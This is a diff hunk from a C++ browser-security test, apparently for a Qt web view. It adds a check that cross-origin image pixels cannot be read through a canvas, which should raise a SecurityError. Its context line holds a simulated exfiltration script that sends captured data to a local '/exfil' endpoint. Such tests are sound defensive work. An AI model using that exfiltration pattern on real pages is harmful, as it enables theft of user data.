@@ -227,6 +227,12 @@ top.location = 'http://127.0.0.1:8709/exfil?d=' + encodeURIComponent(got); }, 20
     EXPECT_EQ(evaluateText(*view, "document.location.href"), view->baseURL().toString(QUrl::FullyEncoded));
     EXPECT_EQ(evaluateText(*view, "var p = document.querySelector('img'); p.naturalWidth + 'x' + p.naturalHeight"),
               "37x23");
+    // Nor are the picture's pixels to be had by drawing it into a canvas.
+    EXPECT_EQ(evaluateText(*view, "var c = document.createElement('canvas'); c.width = 37; c.height = 23;"
+                                  "var g = c.getContext('2d'); g.drawImage(document.querySelector('img'), 0, 0);"
+                                  "var r; try { r = String(g.getImageData(0, 0, 1, 1).data[2]); }"
+                                  "catch (e) { r = e.name; } r"),
+              "SecurityError");
 
     ASSERT_TRUE(clickElement(*view, "a[href^=\"https\"]"));
     ASSERT_TRUE(waitUntil([&] { return !opener.calls().isEmpty(); }));
